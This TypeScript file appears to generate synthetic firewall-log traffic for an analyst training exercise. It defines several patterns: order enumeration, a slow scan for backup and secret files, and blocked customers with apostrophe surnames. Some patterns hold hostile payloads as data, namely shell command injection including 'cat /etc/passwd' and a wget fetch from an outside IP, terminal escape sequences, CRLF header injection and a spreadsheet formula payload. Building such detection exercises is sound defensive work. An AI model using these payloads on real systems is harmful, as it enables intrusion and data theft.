import { load } from '../chance.ts';
import { credentialStuffing, scanners, sqlInjection } from './attacks.ts';
import {
  ACCESS,
  CLOUDS,
  DETAIL,
  HOSTING,
  type Origin,
  recurs,
  type TrafficPattern,
} from './traffic-pattern.ts';

/*
 * Besides the obvious attacks, the traffic has a few that no burst reveals and an analyst has to find: a spread-out
 * attacker, an attack that is not blocked, a slow scan, and customers blocked by mistake.
 */

/** A network with 300 masked addresses that one attacker rotates through. */
const ROTATION: readonly Origin[] = [
  { asn: '49870', country: 'NL', network: '45.148' },
  { asn: '49870', country: 'NL', network: '45.149' },
];

/** Reads other customers' orders in sequence, each from another address. */
const rotatingAttacker: TrafficPattern = {
  name: 'rotating attacker',
  origins: ROTATION,
  subnets: 150,
  agents: [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.55 Safari/537.36',
  ],
  details: Array.from({ length: 24 }, (_, at) => String(810_417 + at * 37)),
  requests: [
    {
      method: 'GET',
      path: `/api/v2/orders/${DETAIL}/invoice`,
      ruleId: '100041',
      message: 'Orders read in sequence without a session',
      severity: 'WARNING',
      status: 'Challenged',
      trigger: ['MATCH', DETAIL],
    },
    {
      method: 'GET',
      path: `/api/v2/orders/${DETAIL}/invoice`,
      ruleId: '100042',
      message: 'Order of another customer',
      severity: 'WARNING',
      status: 'Logged',
      trigger: ['MATCH', DETAIL],
    },
  ],
  weight: () => 0.5,
};

/** A rule left in logging mode, and a three-minute attack it does not block. */
const passingAttack: TrafficPattern = {
  name: 'attack that passes',
  origins: [{ asn: '209605', country: 'LT', network: '141.98' }],
  subnets: 2,
  agents: ['Mozilla/5.0 (compatible; ImportTool/2.1)'],
  details: ['id', 'uname%20-a', 'cat%20/etc/passwd', 'wget%20http://141.98.10.9/x'],
  requests: [
    {
      method: 'POST',
      path: `/api/v2/import?source=$(${DETAIL})`,
      ruleId: '932130',
      message: 'Remote Command Execution: Unix Shell Expression Found',
      severity: 'CRITICAL',
      status: 'Logged',
      trigger: ['RX', `$(${DETAIL})`],
      body: `source=%24%28${DETAIL}%29`,
    },
  ],
  weight: (minute, phase) =>
    recurs(minute, { period: 29, length: 3, phase: phase + 11 }) ? 2.5 : 0.05,
};

/** A scan of about one path a minute, all day: too slow for burst detection. */
const slowScan: TrafficPattern = {
  name: 'slow scan',
  origins: [{ asn: '56971', country: 'KZ', network: '185.220' }],
  subnets: 1,
  agents: ['Mozilla/5.0 (Windows NT 6.1; rv:60.0) Gecko/20100101 Firefox/60.0'],
  details:
    'backup.zip db.sql.gz config.old site.tar users.csv dump.rdb id_rsa.pub web.config settings.py secrets.yml export.xlsx wp-config.txt'.split(
      ' ',
    ),
  requests: ['', '/old', '/archive', '/private', '/staging', '/files'].map((folder) => ({
    method: 'GET' as const,
    path: `${folder}/${DETAIL}`,
    ruleId: '920440',
    message: 'URL file extension is restricted by policy',
    severity: 'NOTICE' as const,
    status: 'Logged' as const,
    trigger: ['WITHIN', DETAIL] as const,
  })),
  weight: () => 0.02,
};

/** Signed-in customers whose names a rule mistakes for SQL, blocked at the checkout. */
const stoppedCustomers: TrafficPattern = {
  name: 'stopped customers',
  origins: ACCESS,
  subnets: 180,
  agents: [
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
    'Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0',
  ],
  details: ["O'Neill", "D'Angelo", "O'Brien", "L'Heureux", "N'Diaye", "Dell'Acqua"],
  requests: [
    {
      method: 'POST',
      path: `/checkout/address?surname=${DETAIL}`,
      ruleId: '942330',
      message: 'Detects classic SQL injection probings 1/3',
      severity: 'CRITICAL',
      status: 'Blocked',
      trigger: ['RX', DETAIL],
      body: `surname=${DETAIL}&city=Galway`,
      isSignedIn: true,
    },
  ],
  weight: () => 0.25,
};

const BOT_REQUEST = { method: 'GET', severity: 'NOTICE' } as const;

/** Crawlers that read the whole catalogue, for two minutes at a time. */
const bots: TrafficPattern = {
  name: 'bots',
  origins: CLOUDS,
  subnets: 12,
  agents: [
    'Mozilla/5.0 (compatible; PriceHarvester/2.4; +https://harvester.example/bot)',
    'Scrapy/2.13.3 (+https://scrapy.org)',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/140.0.0.0 Safari/537.36',
  ],
  details: 'sofas lamps rugs chairs mugs desks shelves mirrors clocks cushions'.split(' '),
  requests: [
    {
      ...BOT_REQUEST,
      path: `/category/${DETAIL}?page=7&per_page=96`,
      ruleId: '100031',
      message: 'Automated client: no browser behind the user agent',
      status: 'Challenged',
      trigger: ['BOT', 'score 92'],
    },
    {
      ...BOT_REQUEST,
      path: `/api/v2/prices?category=${DETAIL}`,
      ruleId: '100032',
      message: 'Automated client: data centre address',
      status: 'Logged',
      trigger: ['BOT', 'score 71'],
    },
  ],
  weight: (minute, phase) =>
    recurs(minute, { period: 19, length: 2, phase: phase + 5 }) ? 70 : 0.4,
};

const VISITOR_REQUEST = { severity: 'NOTICE', status: 'Logged' } as const;

/** Real customers whose requests match a rule by mistake: false positives. */
const ordinaryVisitors: TrafficPattern = {
  name: 'ordinary visitors',
  origins: ACCESS,
  subnets: 200,
  agents: [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15',
    'Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0',
    'Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36',
  ],
  details:
    'lamp o%27neill+mug desk union+jack+cushion chair select+sofa rug fr%C3%BChst%C3%BCck'.split(
      ' ',
    ),
  requests: [
    {
      ...VISITOR_REQUEST,
      method: 'GET',
      path: `/search?q=${DETAIL}&page=1`,
      ruleId: '942360',
      message: 'Detects concatenated basic SQL injection and SQLLFI attempts',
      trigger: ['RX', DETAIL],
    },
    {
      ...VISITOR_REQUEST,
      method: 'POST',
      path: '/api/v2/basket/items',
      ruleId: '920420',
      message: 'Request content type is not allowed by policy',
      trigger: ['WITHIN', 'application/vnd.basket+json'],
      body: `sku=${DETAIL}&quantity=1`,
    },
    {
      ...VISITOR_REQUEST,
      method: 'GET',
      path: `/products/${DETAIL}?ref=newsletter`,
      ruleId: '920273',
      message: 'Invalid character in request (outside of very strict set)',
      trigger: ['VBR', `ref=newsletter/${DETAIL}`],
    },
    {
      ...VISITOR_REQUEST,
      method: 'OPTIONS',
      path: '/api/v2/session',
      ruleId: '911100',
      message: 'Method is not allowed by policy',
      trigger: ['WITHIN', 'OPTIONS'],
    },
    {
      ...VISITOR_REQUEST,
      method: 'POST',
      path: '/api/v2/reviews',
      ruleId: '941310',
      message: 'US-ASCII Malformed Encoding XSS Filter - Attack Detected',
      trigger: ['RX', `<b>${DETAIL}</b> was exactly what I needed & arrived early`],
      body: `text=%3Cb%3E${DETAIL}%3C%2Fb%3E`,
    },
  ],
  weight: (minute) => 8 * load(11, minute * 60_000),
};

const TRICK_REQUEST = {
  method: 'GET',
  severity: 'WARNING',
  status: 'Blocked',
} as const;

/**
 * Requests aimed at people who read the log in a terminal: colours, cleared screens, window titles, C1 controls,
 * reversed and invisible text.
 */
const terminalTricks: TrafficPattern = {
  name: 'terminal tricks',
  origins: HOSTING,
  subnets: 3,
  agents: [
    'Mozilla/5.0 \u001b[2J\u001b[H all systems normal',
    'curl/8.15.0 \u001b]0;nothing to see\u0007',
    'sql\u202Epam/1.0\u202C',
    'zgrab\u200B/0.x \u009b31m',
    'Mozilla/5.0\r\nX-Injected: yes',
  ],
  details: [
    '\u001b[31mred\u001b[0m',
    '\u001b[8mhidden',
    '\u202Egpj.exe',
    '\u0008\u0008\u0008safe',
    '\u2066x\u2069',
    '=cmd|calc!A1',
  ],
  requests: [
    {
      ...TRICK_REQUEST,
      path: `/search?q=${DETAIL}`,
      ruleId: '920270',
      message: 'Invalid character in request (null character)',
      trigger: ['VBR', DETAIL],
    },
    {
      ...TRICK_REQUEST,
      path: `/assets/${DETAIL}/logo.svg`,
      ruleId: '920274',
      message: 'Invalid character in request headers (outside of very strict set)',
      trigger: ['VBR', 'User-Agent'],
    },
  ],
  weight: () => 0.12,
};

/** All traffic that the world's firewall logs. */
export const TRAFFIC_PATTERNS: readonly TrafficPattern[] = [
  scanners,
  sqlInjection,
  credentialStuffing,
  bots,
  ordinaryVisitors,
  terminalTricks,
  rotatingAttacker,
  passingAttack,
  slowScan,
  stoppedCustomers,
];
